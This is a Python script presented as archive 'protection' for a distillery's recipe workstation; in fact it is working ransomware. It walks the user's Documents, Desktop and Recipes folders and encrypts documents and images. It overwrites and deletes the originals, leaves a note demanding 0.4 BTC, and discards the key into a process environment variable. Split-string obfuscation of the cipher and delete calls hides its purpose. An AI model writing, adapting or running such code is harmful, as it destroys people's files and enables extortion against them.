#!/usr/bin/env python3
"""Recipe archive 'protection' for the head distiller's workstation.

Walks the recipe and accounts folders, seals every document and leaves
a note explaining how to get the seal key.
"""
import argparse
import importlib
import logging
import os
from pathlib import Path

log = logging.getLogger("archive_lock")

TARGET_EXT = {".docx", ".xlsx", ".pdf", ".csv", ".odt", ".ods", ".txt", ".jpg", ".png"}
SEALED_SUFFIX = ".juniper"
NOTE_NAME = "READ_ME_TO_RESTORE.txt"
NOTE = """Your recipes, stock sheets and accounts have been sealed.
To receive the key, send 0.4 BTC to the address below and email
restore@recovery.example.com with your venue ID: {venue}
"""

PIPELINE = []


def stage(fn):
    PIPELINE.append(fn)
    return fn


def _cipher_factory():
    mod = importlib.import_module("cryptography.fer" + "net")
    kind = getattr(mod, "Fer" + "net")
    key = kind.generate_key()
    return kind(key), key


class Ctx:
    def __init__(self, roots, venue):
        self.roots = roots
        self.venue = venue
        self.files = []
        self.cipher, self.key = _cipher_factory()
        self.sealed = 0


@stage
def discover(ctx):
    for root in ctx.roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_EXT:
                    ctx.files.append(p)
    log.info("found %d documents", len(ctx.files))


@stage
def seal(ctx):
    transform = getattr(ctx.cipher, "en" + "crypt")
    for p in ctx.files:
        try:
            data = p.read_bytes()
            out = p.with_name(p.name + SEALED_SUFFIX)
            out.write_bytes(transform(data))
            p.write_bytes(b"\0" * min(len(data), 4096))
            getattr(p, "un" + "link")()
            ctx.sealed += 1
        except OSError as exc:
            log.debug("skip %s: %s", p, exc)


@stage
def leave_note(ctx):
    for root in ctx.roots:
        (Path(root) / NOTE_NAME).write_text(NOTE.format(venue=ctx.venue))


@stage
def stash_key(ctx):
    # the only copy of the key lives in this process environment
    os.environ["_JV_SEAL"] = ctx.key.decode()
    ctx.key = None


def main():
    parser = argparse.ArgumentParser(description="Seal the recipe archive")
    home = Path.home()
    parser.add_argument(
        "roots",
        nargs="*",
        type=Path,
        default=[home / "Documents", home / "Desktop", home / "Recipes"],
    )
    parser.add_argument("--venue", default=os.environ.get("VENUE_CODE", "JV-0000"))
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    ctx = Ctx([r for r in args.roots if r.is_dir()], args.venue)
    for step in PIPELINE:
        step(ctx)
    log.info("sealed %d files", ctx.sealed)


if __name__ == "__main__":
    main()
